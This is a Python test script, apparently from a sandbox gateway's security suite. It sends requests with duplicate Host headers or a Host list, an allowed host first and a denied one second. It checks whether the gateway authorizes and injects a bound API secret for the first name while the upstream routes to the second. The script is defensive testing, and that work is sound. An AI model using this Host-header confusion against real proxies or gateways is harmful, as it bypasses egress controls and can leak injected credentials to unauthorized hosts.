"""Sends requests with two Host headers (or a Host list) whose first names an allowed host and
whose second a denied one: on the transparent HTTP listener, and inside intercepted TLS to the
host API_TOKEN is bound to, with the placeholder in Authorization — so that the gateway
authorizes (and injects the secret for) the first name while an upstream or a shared front end
that routes by the last Host header, as many do, sends the request to the other host. The second
name carries a nonce; the upstream reports whether a request with it arrived (/seen). Also the
proxy's absolute form, where the URL decides.
Blocked when: a request with more than one Host header, or a Host list, is refused with 400
(RFC 9112 §3.2), or at least never reaches an upstream with a Host the gateway did not check.
space-attack: sandbox=fresh opts=--secret,API_TOKEN timeout=30
"""
import json
import os
import socket
import ssl

NONCE = "duphost" + os.urandom(5).hex()
OTHER = ("%s.other.example.test" % NONCE).encode()
CA = "/etc/space/ca-bundle.crt"
PH = os.environ["API_TOKEN"].encode()
escapes, notes = [], []


def read_all(s, timeout=5.0):
    s.settimeout(timeout)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except (OSError, ssl.SSLError):
        pass
    return out


def plain(data, port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(data)
    out = read_all(s)
    s.close()
    return out


def intercepted(data):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
    if not s.recv(4096).startswith(b"HTTP/1.1 200"):
        print("ERROR: CONNECT api.example.test was refused")
        raise SystemExit(2)
    t = ssl.create_default_context(cafile=CA).wrap_socket(s, server_hostname="api.example.test")
    issuer = dict(x[0] for x in t.getpeercert()["issuer"])
    if "SPACE sandbox" not in issuer.get("commonName", ""):
        print("ERROR: api.example.test was not intercepted (issuer %s)" % issuer)
        raise SystemExit(2)
    t.sendall(data)
    out = read_all(t)
    t.close()
    return out


def seen():
    r = plain(b"GET http://plain.example.test/seen?n=%s HTTP/1.1\r\nHost: plain.example.test\r\n"
              b"Connection: close\r\n\r\n" % NONCE.encode(), 3128)
    try:
        return json.loads(r[r.index(b"{"):r.rindex(b"}") + 1])["count"]
    except ValueError:
        print("ERROR: the upstream's /seen did not answer: %r" % r[:200])
        raise SystemExit(2)


CASES = [
    ("transparent HTTP", 80, b"plain.example.test", lambda d: plain(d, 80)),
    ("intercepted TLS to api.example.test (secret bound)", 443, b"api.example.test", intercepted),
]
for where, _, allowed, send in CASES:
    for shape, hosts in [("Host, Host", b"Host: %s\r\nHost: %s\r\n" % (allowed, OTHER)),
                         ("Host, host", b"Host: %s\r\nhost: %s\r\n" % (allowed, OTHER)),
                         ("Host list", b"Host: %s, %s\r\n" % (allowed, OTHER))]:
        before = seen()
        resp = send(b"GET /echo HTTP/1.1\r\n" + hosts +
                    b"Authorization: Bearer %s\r\nConnection: close\r\n\r\n" % PH)
        arrived = seen() - before
        status = resp.split(b"\r\n", 1)[0].decode("latin-1")
        if arrived:
            injected = b"Bearer ****" in resp
            escapes.append("%s with %s: the gateway checked %s but the upstream received Host "
                           "%s%s (answer: %s)" % (where, shape, allowed.decode(), OTHER.decode(),
                                                  ", with the secret injected" if injected else "",
                                                  status))
        elif status.startswith("HTTP/1.1 4"):
            notes.append("%s, %s: %s" % (where, shape, status[9:]))
        else:
            notes.append("%s, %s: %s, but the second Host never arrived" % (where, shape, status))

before = seen()
resp = plain(b"GET http://plain.example.test/echo HTTP/1.1\r\nHost: plain.example.test\r\n"
             b"Host: %s\r\nConnection: close\r\n\r\n" % OTHER, 3128)
if seen() - before:
    escapes.append("proxy absolute form: the upstream received Host %s" % OTHER.decode())
else:
    notes.append("proxy: the URL's host replaces every Host header")

if escapes:
    print("ESCAPED: " + "; ".join(escapes)[:1500])
    raise SystemExit(1)
print("BLOCKED: " + "; ".join(notes))
